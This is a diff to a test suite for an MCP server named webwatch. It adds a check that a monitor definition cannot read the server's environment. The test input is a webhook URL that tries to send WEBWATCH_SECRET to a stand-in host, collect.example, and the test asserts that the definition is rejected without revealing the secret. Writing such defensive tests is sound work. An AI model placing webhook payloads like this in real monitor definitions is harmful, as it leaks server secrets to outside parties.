@@ -86,7 +86,7 @@ describe('webwatch mcp', { concurrency: false }, () => {
   describe('over stdio, on the embedded engine', () => {
     let client: Client;
     before(async () => {
-      client = await stdioClient();
+      client = await stdioClient([], { WEBWATCH_SECRET: 'from-the-environment' });
     });
     after(async () => {
       await client.close();
@@ -195,6 +195,11 @@ describe('webwatch mcp', { concurrency: false }, () => {
       assert.match(invalid, /^The definition is invalid/);
       assert.match(invalid, /2:\d+ schedule\.text: /);
       assert.match(textOf(await client.callTool({ name: 'webwatch_monitor_validate', arguments: { yaml } })), /^The definition is valid\.\nvalid: Acme pricing/);
+      // A definition a model writes does not read the server's environment.
+      const leaking = textOf(await client.callTool({ name: 'webwatch_monitor_validate', arguments: { yaml: `${yaml}webhook: {url: "https://collect.example/\${WEBWATCH_SECRET}"}\n` } }));
+      assert.match(leaking, /^The definition is invalid/);
+      assert.match(leaking, /WEBWATCH_SECRET/);
+      assert.doesNotMatch(leaking, /from-the-environment/);
       assert.match(textOf(await client.callTool({ name: 'webwatch_monitor_apply', arguments: { yaml, dryRun: true } })), /create Acme pricing/);
       assert.match(textOf(await client.callTool({ name: 'webwatch_monitor_apply', arguments: { yaml } })), /^Applied: .*"created": 1/s);
       assert.match(textOf(await client.callTool({ name: 'webwatch_monitor_apply', arguments: { yaml } })), /unchanged Acme pricing/);
